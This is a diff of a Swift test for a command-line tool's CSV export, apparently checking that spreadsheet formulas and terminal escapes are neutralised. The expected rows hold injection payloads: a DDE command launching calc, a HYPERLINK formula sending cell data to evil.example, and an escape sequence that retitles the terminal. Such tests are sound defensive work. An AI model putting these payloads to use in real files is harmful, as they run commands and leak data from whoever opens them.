@@ -56,10 +56,10 @@ import Testing
         let result = try Interco.run(Self.arguments)
         #expect(result.exitCode == 0, "\(result.stderr)")
         #expect(result.stdout == """
-            actor,name,how,match,hops,status,confidence,since,basis,paths\r
-            tax,'@SUM(1+1)*cmd|' /C calc'!A0,holds,exact,0,in-force,not stated,,holds the file,1\r
-            evil,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Voir"")",consultation,exact,1,in-force,not stated,,'+33 1 23 45 67 89,1\r
-            term,p\\u{0}x\\u{1B}]0;pwned\\u{7},consultation,exact,1,in-force,not stated,,'\\u{9}Tab first,1\r
+            actor,name,how,match,hops,status,confidence,since,since_precision,basis,paths\r
+            tax,'@SUM(1+1)*cmd|' /C calc'!A0,holds,exact,0,in-force,,,,,1\r
+            evil,"'=HYPERLINK(""https://evil.example/?x=""&A1,""Voir"")",consultation,exact,1,in-force,,,,'+33 1 23 45 67 89,1\r
+            term,p\\u{0}x\\u{1B}]0;pwned\\u{7},consultation,exact,1,in-force,,,,'\\u{9}Tab first,1\r
 
             """)
         #expect(!result.stdout.unicodeScalars.contains { $0.value < 0x20 && $0 != "\r" && $0 != "\n" })
